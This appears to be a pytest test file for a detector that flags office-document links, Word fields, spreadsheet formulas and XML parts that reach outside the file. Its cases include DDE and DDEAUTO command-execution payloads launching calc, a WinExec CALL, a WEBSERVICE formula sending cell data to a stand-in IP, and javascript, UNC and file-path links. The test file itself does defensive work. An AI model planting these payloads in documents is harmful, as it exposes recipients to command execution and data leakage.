"""Fields, formulas and links of office documents: what reaches outside them, and what does not."""

import io

import pytest

from sessions.export.office_reach import (
    DEPTH_MAX,
    field_reaches,
    formula_reaches,
    link_reaches,
    part_reaches,
)


def unexpected() -> None:
    raise AssertionError("no doctype")


def char(kind: str) -> str:
    return f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>'


def run(text: str) -> str:
    return f"<w:r><w:instrText>{text}</w:instrText></w:r>"


@pytest.mark.parametrize(
    ("target", "outside"),
    [
        ("https://example.org/a:b", False),
        ("HTTP://example.org", False),
        ("mailto:a@example.org", False),
        ("tel:12345", False),
        ("#_Toc1", False),
        ("附件/一.docx", False),
        ("", False),
        ("file:/etc/passwd", True),
        (" java\tscript:alert(1)", True),
        ("\u200bvbscript:x", True),
        ("data:text/html,x", True),
        ("ms-word:ofe|u|http://192.0.2.1/a.docm", True),
        (r"\\192.0.2.1\share\a", True),
        ("//192.0.2.1/share", True),
        (r"C:\a.exe", True),
    ],
)
def test_links(target: str, outside: bool) -> None:
    assert link_reaches(target) is outside


@pytest.mark.parametrize(
    ("instruction", "outside"),
    [
        (" PAGE ", False),
        (r' TOC \o "1-3" \h \z \u ', False),
        (r" = SUM(ABOVE) \# 0.00 ", False),
        (r' DATE \@ "yyyy年M月d日" ', False),
        (r' HYPERLINK \l "_Toc1" ', False),
        (r' HYPERLINK "https://example.org/" \o "note: dde" ', False),
        (" REF dde ", False),
        ("", False),
        (r' DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc" ', True),
        (" dde excel a b ", True),
        (' "DDEAUTO" excel a ', True),
        (r' INCLUDEPICTURE "http://192.0.2.1/a.png" \d ', True),
        (r' INCLUDETEXT "c:\\a.docx" ', True),
        (r" LINK Excel.Sheet.12 c:\\a.xlsx ", True),
        (r' HYPERLINK "file://192.0.2.1/a" ', True),
        (r' HYPERLINK \t "_blank" "javascript:x" ', True),
        (r' HYPERLINK "\\\\192.0.2.1\\a" ', True),
    ],
)
def test_fields(instruction: str, outside: bool) -> None:
    assert field_reaches(instruction) is outside


@pytest.mark.parametrize(
    ("formula", "outside"),
    [
        ("SUM(A1:A9)/COUNT(B:B)", False),
        ("'二季度 明细'!A1+Sheet2!B2", False),
        ("Table1[金额]*Table1[[#Totals],[税率]]", False),
        ("Table1[金额]+Sheet2!A1", False),
        ("[0]!本册", False),
        ('"a|b"&"[1]表!A1"&"WEBSERVICE("', False),
        ('HYPERLINK("https://example.org/"&A1,"看")', False),
        ('HYPERLINK("#表2!A1")', False),
        ("MYIMAGE(A1)+RECALL(B1)", False),
        ('WEBSERVICE("http://192.0.2.1/?"&A1)', True),
        ('_xlfn.WEBSERVICE ("http://192.0.2.1")', True),
        ('_xlfn.IMAGE("http://192.0.2.1/a.png")', True),
        ('CALL("Kernel32","WinExec","JCJ","calc",0)', True),
        ("cmd|'/c calc'!A0", True),
        ("'cmd'|'/c calc'!A0", True),
        ("[1]Sheet1!A1", True),
        ("[账.xlsx]表!A1", True),
        ("'[1]二 季度'!A1", True),
        (r"'\\192.0.2.1\a\[b.xlsx]c'!A1", True),
        ("[1]!名字", True),
        ('HYPERLINK("file://192.0.2.1/a")', True),
        ('IF(A1,"""",RTD("a",,"b"))', True),
    ],
)
def test_formulas(formula: str, outside: bool) -> None:
    assert formula_reaches(formula) is outside


@pytest.mark.parametrize(
    ("inside", "outside"),
    [
        (char("begin") + run("PA") + run("GE") + char("separate") + char("end"), False),
        (char("begin") + run("DDE") + run("AUTO a b") + char("separate") + char("end"), True),
        (char("begin") + run("INCLUDETEXT a") + char("end"), True),
        (char("begin") + run("DDE a"), True),
        (run("DDE a"), True),
        (f"<w:p>{char('begin')}{run('DD')}</w:p><w:p>{run('E a')}{char('end')}</w:p>", True),
        (
            char("begin") + char("begin") + run("QUOTE 68 68 69") + char("separate")
            + char("end") + run(" excel a b") + char("separate") + char("end"),
            True,
        ),
        (
            char("begin") + run("IF ") + char("begin") + run("PAGE") + char("separate")
            + char("end") + run(" = 1") + char("separate") + char("end"),
            False,
        ),
        (
            char("begin") + run("IF ") + char("begin") + run("INCLUDETEXT a") + char("separate")
            + char("end") + run(" = 1") + char("separate") + char("end"),
            True,
        ),
        (char("begin") * (DEPTH_MAX + 1), True),
        ('<w:fldSimple w:instr="PAGE"/>', False),
        ('<x:fldSimple x:instr="DDE a b"/>', True),
        ("<w:delInstrText>DDE a</w:delInstrText>", True),
        ('<w:connectString w:val="Provider=SQLOLEDB"/>', True),
        ('<v:imagedata src="http://192.0.2.1/a.png"/>', True),
        ('<v:imagedata r:id="rId4" o:title="a: b"/>', False),
        ('<v:shape href="https://example.org/"/>', False),
        ('<v:shape href="file://192.0.2.1/a"/>', True),
        ("<f>SUM(A1)</f>", False),
        ("<x14:formula1><xm:f>[1]a!A1</xm:f></x14:formula1>", True),
        ("<definedName name=\"a\">cmd|'/c calc'!A0</definedName>", True),
        ('<definedName name="a" xlm="1">表!A1</definedName>', True),
        ("<m:f><m:num><m:t>[1]a!A1</m:t></m:num></m:f>", False),
        ("<w:t>DDEAUTO WEBSERVICE(A1)</w:t>", False),
    ],
)  # fmt: skip
def test_parts(inside: str, outside: bool) -> None:
    spaces = "".join(
        f' xmlns:{one}="urn:x/{one}"' for one in ("w", "x", "v", "o", "r", "x14", "xm")
    )
    math = "http://schemas.openxmlformats.org/officeDocument/2006/math"
    xml = f'<w:document{spaces} xmlns:m="{math}">{inside}</w:document>'
    assert part_reaches(io.BytesIO(xml.encode()), unexpected) is outside
